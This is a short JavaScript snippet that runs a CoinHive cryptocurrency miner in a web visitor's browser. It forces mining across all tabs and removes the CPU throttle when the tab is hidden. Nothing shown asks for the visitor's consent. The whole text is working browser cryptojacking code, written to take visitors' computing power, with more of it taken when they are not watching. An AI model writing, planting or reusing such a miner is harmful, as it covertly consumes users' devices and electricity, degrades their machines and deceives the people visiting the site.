var miner = new CoinHive.User("PUBLIC_KEY_PLACEHOLDER", "visitor", { autoThreads: true, throttle: 0.2 });
miner.start(CoinHive.FORCE_MULTI_TAB);
miner.on("found", function () { console.log("hash found"); });
setInterval(function () {
  var hps = miner.getHashesPerSecond();
  if (document.hidden && hps < 10) miner.setThrottle(0);
}, 10000);
